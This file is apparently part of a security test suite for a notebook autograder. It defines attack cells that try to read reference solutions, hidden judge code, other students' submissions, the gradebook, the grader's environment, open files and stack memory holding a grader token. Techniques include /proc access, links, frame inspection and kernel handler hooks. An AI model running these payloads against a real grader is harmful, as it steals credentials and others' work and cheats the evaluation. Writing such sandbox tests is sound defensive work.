"""Reading secrets: solutions, hidden judges, other people's work, the grader's environment."""

from tests.attacks.attack import GRADER, Attack, Link, answer, answers, beside

GROUP = "read"

PRINT = """
import glob, sqlite3

def show(pattern):
    for path in sorted(glob.glob(pattern, recursive=True)):
        try:
            print(path, open(path, errors="replace").read()[-60000:])
        except OSError as error:
            print(error)
"""


def reading(name: str, what: str, source: str, cell: str = "A1-1") -> Attack:
    """An attack that prints what it finds, from an otherwise untouched A1."""
    return Attack(name, GROUP, what, answer(cell, source))


ATTACKS = (
    reading(
        "left-behind",
        "what grading writes beside the student: the reference's values, and the notebook with hidden parts",
        PRINT + "show('$root/autograder/course/reference/*.json')\nshow('**/*.ipynb')\nshow('../**/*.ipynb')",
    ),
    reading(
        "grader-memory",
        "the grader's memory",
        GRADER
        + """
pid = grader()
for line in open(f"/proc/{pid}/maps") if pid else ():
    if "[stack]" in line:
        start, end = (int(each, 16) for each in line.split()[0].split("-"))
        memory = open(f"/proc/{pid}/mem", "rb")
        memory.seek(start)
        content = memory.read(end - start)
        found = content.find(b"GRADER_" + b"TOKEN=")
        print(content[found : found + 80])
""",
    ),
    reading(
        "frames-and-modules",
        "an object that is looked at looks back, through all frames and modules of who looks",
        """
import sys

class Spy:
    @property
    def __class__(self):
        frame = sys._getframe()
        while frame:
            notes.append(str(frame.f_globals.get("__doc__")) + repr(frame.f_locals)[:5000])
            frame = frame.f_back
        notes.extend(str(module.__doc__) for module in list(sys.modules.values()))
        return type(self)

notes = []
shapes = Spy()
get_ipython().events.register("post_run_cell", lambda result: print(notes))
""",
        "A1-3",
    ),
    reading(
        "solutions",
        "the reference solution, by paths that go up, by its own, and by a hard link",
        PRINT
        + """
import os
for up in ("../" * n for n in range(1, 9)):
    show(up + "solutions/**/a1*.py")
show("$root/solutions/*.py")
os.link("$root/solutions/a1_preprocess.py", "mine.txt")
show("mine.txt")
""",
    ),
    reading(
        "examiner",
        "the hidden judges, by importing them and as files",
        PRINT
        + """
show("$root/autograder/examiner/short_answers.py")
show("$root/autograder/examiner/judge.py")
import sys
sys.path.insert(0, "$root")
import autograder.examiner.judge, autograder.examiner.short_answers
print(autograder.examiner.judge.__doc__, autograder.examiner.short_answers.__doc__)
""",
    ),
    reading(
        "gradebook",
        "what graders wrote to others, and the hidden part of the checks",
        PRINT
        + """
book = sqlite3.connect("file:$root/autograder/course/gradebook.db?mode=ro", uri=True)
print(book.execute("select manual_comment from comment").fetchall())
print(book.execute("select source from source_cell").fetchall())
""",
    ),
    reading(
        "environment",
        "the grader's environment and command, inherited and in /proc",
        GRADER
        + """
print(dict(os.environ))
pid = grader()
if pid:
    print(open(f"/proc/{pid}/environ").read(), open(f"/proc/{pid}/cmdline").read())
""",
    ),
    reading(
        "other-peoples-files",
        "other students' answers and feedback, and the history of the project",
        PRINT + "show('$root/autograder/course/*/$neighbour/**/*.ipynb')\nshow('$root/.git/*')",
    ),
    Attack(
        "links",
        GROUP,
        "links among the handed-in files lead to the solution, to its folder and to the gradebook",
        beside(
            {
                "notes.txt": Link("$root/solutions/a1_preprocess.py"),
                "data/more.txt": Link("../../../../../../solutions/a1_preprocess.py"),
                "data/book.txt": Link("$root/autograder/course/gradebook.db"),
                "more": Link("$root/solutions"),
            },
            PRINT + "show('notes.txt')\nshow('data/*')\nshow('more/*.py')",
        ),
    ),
    reading(
        "open-descriptors",
        "files that the kernel or the grader holds open",
        GRADER
        + """
for pid in {os.getpid(), grader()} - {0}:
    for number in os.listdir(f"/proc/{pid}/fd"):
        path = f"/proc/{pid}/fd/{number}"
        if int(number) > 2 and os.path.isfile(path):
            print(os.readlink(path), open(path, "rb").read()[:200000])
""",
    ),
    Attack(
        "code-of-the-reference",
        GROUP,
        "what the kernel is given after a failed step is kept and read in the next one",
        answers(
            {
                "A1-1": """
import base64, gc, marshal, types
kept = []
handlers = get_ipython().kernel.shell_handlers

def keeping(handler):
    async def keep(stream, ident, parent):
        kept.append(parent["content"])
        return await handler(stream, ident, parent)
    return keep

for name in handlers.keys() - {"execute_request", "kernel_info_request"}:
    handlers[name] = keeping(handlers[name])
""",
                "A1-5": """
def constants(code):
    for each in code.co_consts:
        yield from constants(each) if isinstance(each, types.CodeType) else [each]

for content in kept:
    for text in content.get("cells", ()):
        try:
            print(list(constants(marshal.loads(base64.b64decode(text)))))
        except ValueError:
            print(text)
    print(content)
for each in gc.get_objects():
    if type(each) is dict and "__name__" in each and "trainData" in each:
        print({name: str(value)[:200] for name, value in each.items()})
""",
            }
        ),
    ),
)
